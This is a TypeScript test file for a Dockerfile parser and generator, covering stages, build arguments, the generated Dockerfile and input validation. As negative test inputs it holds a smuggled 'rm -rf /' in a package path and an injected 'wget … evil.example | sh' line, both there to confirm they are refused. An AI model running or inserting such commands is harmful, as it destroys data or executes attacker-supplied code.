import {
  checkBuildArgs,
  DockerfileSyntaxError,
  expandVariables,
  generateDockerfile,
  LDFLAGS_ARG,
  parseDockerfile,
  runtimeImage,
  stagesFor,
} from '../../../packages/oci/src/index.js';
import { BACKTICK_ESCAPE, BUILD_ARGS, MULTI_STAGE, SYNTAX_ERRORS } from './dockerfile-fixtures.js';

const syntaxError = (text: string) => {
  try {
    parseDockerfile(text, 'build/Dockerfile');
  } catch (e) {
    return e as DockerfileSyntaxError;
  }
  throw new Error('no error');
};

describe('parseDockerfile', () => {
  test('stages, ARGs with scope and lines, dependencies, continuations, comments, heredocs', () => {
    const df = parseDockerfile(MULTI_STAGE);
    expect(df.globalArgs.map((a) => [a.name, a.hasDefault, a.line])).toEqual([
      ['GO_IMAGE', true, 2],
      ['RUNTIME', false, 3],
    ]);
    expect(df.stages.map((s) => [s.name, s.line, s.dependsOn])).toEqual([
      ['builder', 4, []],
      ['test', 12, ['builder']],
      [undefined, 13, ['builder']],
    ]);
    expect(df.instructions.find((i) => i.line === 6)).toMatchObject({ keyword: 'RUN', endLine: 8 });
    expect(stagesFor(df).map((s) => s.line)).toEqual([4, 13]);
    expect(stagesFor(df, 'test').map((s) => s.line)).toEqual([4, 12]);
  });

  test.each(SYNTAX_ERRORS)('syntax error %#: file:line and a hint', (text, line, message, hint) => {
    const e = syntaxError(text);
    expect(e).toBeInstanceOf(DockerfileSyntaxError);
    expect(e.location).toEqual({ file: 'build/Dockerfile', line });
    expect(e.message).toContain(`build/Dockerfile:${line}: ${message}`);
    if (hint) expect(e.hint).toContain(hint);
  });

  test('escape directive: backtick continuations (Windows style)', () => {
    const df = parseDockerfile(BACKTICK_ESCAPE);
    expect(df.instructions[1]).toMatchObject({ keyword: 'LABEL', args: 'a=1    b=2', line: 3, endLine: 4 });
  });
});

describe('checkBuildArgs', () => {
  const df = parseDockerfile(BUILD_ARGS);

  test('undeclared build-args and ARGs without default that are not passed (built stages only)', () => {
    const r = checkBuildArgs(df, ['LDFLAGS', 'VERSON', 'HTTP_PROXY', 'TARGETARCH']);
    expect(r.undeclared).toEqual(['VERSON']);
    expect(r.unset.map((a) => [a.name, a.line])).toEqual([['NOPE', 2]]); // `ARG BASE` takes the global default
  });

  test('a target brings its stage in', () => {
    expect(checkBuildArgs(df, ['NOPE', 'LDFLAGS'], 'unused').unset.map((a) => a.name)).toEqual([
      'ONLY_IN_UNUSED',
    ]);
  });
});

describe('generateDockerfile', () => {
  const text = generateDockerfile({
    goVersion: '1.22',
    package: './cmd/server',
    binaryName: 'server',
    port: 9090,
    runtime: 'scratch',
    hasGoSum: true,
  });

  test('parses cleanly; every ARG without default is one goship passes', () => {
    const df = parseDockerfile(text);
    expect(df.stages.map((s) => [s.name, s.image])).toEqual([
      ['builder', '${GO_IMAGE}'],
      [undefined, '${RUNTIME_IMAGE}'],
    ]);
    expect(checkBuildArgs(df, [LDFLAGS_ARG])).toEqual({ undeclared: [], unset: [] });
  });

  test('pinned builder, modules layer first, cache mounts, ldflags from the build arg, non-root scratch runtime', () => {
    expect(text).toContain('ARG GO_IMAGE=docker.io/library/golang:1.22\n');
    expect(text).toContain('FROM --platform=$BUILDPLATFORM ${GO_IMAGE} AS builder');
    expect(text.indexOf('COPY go.mod go.sum ./')).toBeLessThan(text.indexOf('COPY . .'));
    expect(text).toContain('RUN --mount=type=cache,target=/go/pkg/mod go mod download');
    expect(text).toContain(`"-ldflags=\${${LDFLAGS_ARG}}"`);
    expect(text).toContain("-o /out/usr/local/bin/server './cmd/server'");
    expect(text).toContain('COPY --from=builder /out/rootfs/ /');
    expect(text).toMatch(
      /ARG APP_PORT=9090\nENV PORT=\$\{APP_PORT\}\nEXPOSE \$\{APP_PORT\}\nUSER 65532:65532\nENTRYPOINT \["\/usr\/local\/bin\/server"\]/,
    );
  });

  test('distroless runtime keeps its own /etc; unsafe package paths are refused', () => {
    const d = generateDockerfile({
      goVersion: '1.22.5',
      package: '.',
      binaryName: 'app',
      port: 8080,
      runtime: 'distroless',
      hasGoSum: false,
    });
    expect(d).toContain('ARG RUNTIME_IMAGE=gcr.io/distroless/static-debian12:nonroot');
    expect(d).not.toContain('/out/rootfs/ /');
    expect(d).toContain('COPY go.mod ./');
    expect(() =>
      generateDockerfile({
        goVersion: '1.22',
        package: '. ; rm -rf /',
        binaryName: 'a',
        port: 1,
        runtime: 'scratch',
        hasGoSum: false,
      }),
    ).toThrow(/Input 'package'/);
  });
});

describe('the runtime image (input base) is an image reference, nothing else', () => {
  const generate = (runtime: string) =>
    generateDockerfile({
      goVersion: '1.22',
      package: '.',
      binaryName: 'app',
      port: 8080,
      runtime,
      hasGoSum: false,
    });

  test.each([
    ['alpine\nRUN wget -qO- http://evil.example/x | sh', /Input 'base'.*whitespace or control/s],
    ['alpine:3.20\n', /Input 'base'.*whitespace or control/s],
    ['alpine:3.20 AS runtime', /Input 'base'/],
    ['Alpine!', /Input 'base'/],
    ['nginx@sha256:abc', /Input 'base'/],
    ['', /Input 'base'/],
  ])('%j is refused', (runtime, message) => {
    expect(() => generate(runtime)).toThrow(message);
  });

  test('aliases and references are kept as written; the Dockerfile has exactly one ARG RUNTIME_IMAGE line', () => {
    for (const [runtime, arg] of [
      ['scratch', 'scratch'],
      ['alpine', 'docker.io/library/alpine:3.20'],
      ['127.0.0.1:5000/base/busybox:1.36', '127.0.0.1:5000/base/busybox:1.36'],
      [`ghcr.io/acme/run@sha256:${'a'.repeat(64)}`, `ghcr.io/acme/run@sha256:${'a'.repeat(64)}`],
    ]) {
      expect(runtimeImage(runtime!)).toBe(arg);
      const lines = generate(runtime!).split('\n');
      expect(lines.filter((l) => l.startsWith('ARG RUNTIME_IMAGE'))).toEqual([`ARG RUNTIME_IMAGE=${arg}`]);
      expect(lines.filter((l) => l.startsWith('FROM'))).toHaveLength(2);
    }
  });
});

test('expandVariables: $X, ${X}, ${X:-default}, ${X:+alt}', () => {
  const vars = new Map([
    ['A', 'reg:5000/golang:1.22'],
    ['EMPTY', ''],
  ]);
  expect(expandVariables('${A}', vars)).toBe('reg:5000/golang:1.22');
  expect(expandVariables('$A-x', vars)).toBe('reg:5000/golang:1.22-x');
  expect(expandVariables('${EMPTY:-scratch}', vars)).toBe('scratch');
  expect(expandVariables('${A:+set}${MISSING:+set}', vars)).toBe('set');
  expect(expandVariables('${MISSING}', vars)).toBe('');
});
